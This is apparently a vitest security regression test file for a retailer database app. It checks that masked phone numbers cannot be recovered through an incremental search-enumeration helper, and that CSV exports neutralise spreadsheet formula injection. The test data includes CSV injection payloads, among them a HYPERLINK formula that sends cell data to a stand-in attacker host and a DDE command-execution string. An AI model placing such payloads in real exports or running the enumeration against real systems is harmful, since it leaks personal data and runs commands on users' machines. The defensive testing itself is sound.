// Personal data through search, and spreadsheet formulas through CSV
// (issue 13, items 8, 9 and 15).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'drizzle-orm';
import { query } from '../../src/db/client.js';
import { startTestApp, type TestApp } from '../support/test-app.js';
import { multipart, readDownload } from '../support/retailer-factory.js';

let t: TestApp;
let manager: string;
let worker: string;
let admin: string;
let target: { id: number; phone: string };

beforeAll(async () => {
  t = await startTestApp();
  [manager, worker, admin] = [await t.login('county_manager'), await t.login('grid_worker'), await t.login('admin')];
  // A mobile number in worker1's grid, so both a masked and an unmasked role can reach it.
  [target] = await query<{ id: number; phone: string }>(
    t.database.db,
    sql`select r.id, r.phone from retailers r join grids g on g.id = r.grid_id join users u on u.id = g.worker_id
      where u.username = 'worker1' and r.phone ~ '^1[0-9]{10}$' order by r.id limit 1`,
  );
});
afterAll(() => t?.close());

const ids = async (cookie: string, q: string): Promise<number[]> => {
  const res = await t.api(cookie, 'GET', `/api/retailers?pageSize=200&q=${encodeURIComponent(q)}`);
  expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
  return (res.json().items as { id: number }[]).map((i) => i.id);
};

/** The attack of the report: extend the visible prefix one digit at a time, keeping the digit that still finds the shop. */
async function recoverPhone(cookie: string): Promise<string | null> {
  let known = target.phone.slice(0, 3);
  while (known.length < 11) {
    let next: string | null = null;
    for (let d = 0; d <= 9 && next === null; d++) if ((await ids(cookie, `${known}${d}`)).includes(target.id)) next = `${known}${d}`;
    if (next === null) return null;
    known = next;
  }
  return known;
}

describe('a masked phone cannot be recovered by search', () => {
  it('the county manager (sees 159****7015) cannot walk the hidden digits', async () => {
    expect(await recoverPhone(manager)).toBeNull();
  });

  it('but finds the shop by what is shown, or by the exact full number, and the search is audited', async () => {
    expect(await ids(manager, target.phone.slice(-4))).toContain(target.id);
    expect(await ids(manager, `${target.phone.slice(0, 3)}****${target.phone.slice(-4)}`)).toContain(target.id);
    expect(await ids(manager, target.phone)).toContain(target.id);
    const rows = await query<{ q: string; ids: number[] }>(
      t.database.db,
      sql`select a.detail->>'q' as q, a.entity_ids as ids from audit_log a join users u on u.id = a.user_id
        where u.username = 'manager' and a.action = 'search' order by a.id desc limit 1`,
    );
    expect(rows[0]).toEqual({ q: target.phone, ids: expect.arrayContaining([target.id]) });
  });

  it('a grid worker, who sees the number, still finds the shop by any part of it', async () => {
    expect(await ids(worker, target.phone.slice(2, 8))).toContain(target.id);
    expect(await recoverPhone(worker)).toBe(target.phone);
  });

  it('a search of only punctuation finds nothing, not everyone (only spaces is an empty search box: the list)', async () => {
    for (const q of ['_', '-', ' - ', '_-_']) expect(await ids(manager, q), JSON.stringify(q)).toEqual([]);
  });
});

describe('CSV cells are never formulas', () => {
  const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '=cmd|\' /C calc\'!A0', '+1+1', '@SUM(1,2)', '-2+3'];

  it('the retailer export neutralises formula names, and importing the export changes nothing', async () => {
    const shops = await query<{ id: number }>(t.database.db, sql`select id from retailers order by id limit ${formulas.length}`);
    for (const [i, s] of shops.entries()) await query(t.database.db, sql`update retailers set shop_name = ${formulas[i]} where id = ${s.id}`);
    const res = await t.api(admin, 'GET', '/api/retailers/export?format=csv');
    const table = await readDownload(res);
    const cells = table.flat();
    expect(cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-[^\d]/.test(c) || /^-\d.*[+*/]/.test(c))).toEqual([]);
    for (const f of formulas) expect(cells).toContain(`'${f}`);

    const upload = multipart('导出.csv', Buffer.from(res.rawPayload));
    const imported = await t.app.inject({ method: 'POST', url: '/api/retailers/import', headers: { cookie: admin, ...upload.headers }, payload: upload.payload });
    expect(imported.statusCode, imported.body.slice(0, 300)).toBe(200);
    expect(imported.json()).toMatchObject({ created: 0, updated: 0 });
    const names = await query<{ name: string }>(t.database.db, sql`select shop_name as name from retailers where id in ${sql.raw(`(${shops.map((s) => s.id).join(',')})`)} order by id`);
    expect(names.map((n) => n.name)).toEqual(formulas);
  });

  it('the layout export (blank villages) neutralises them too', async () => {
    await query(t.database.db, sql`update villages set name = '=cmd|''/C calc''!A0'`);
    const res = await t.api(manager, 'GET', '/api/layout/export?kind=blank&format=csv&minPopulation=0&radiusKm=0.1');
    expect(res.statusCode).toBe(200);
    const cells = (await readDownload(res)).flat();
    expect(cells.some((c) => c.startsWith("'=cmd"))).toBe(true);
    expect(cells.filter((c) => c.startsWith('='))).toEqual([]);
  });
});
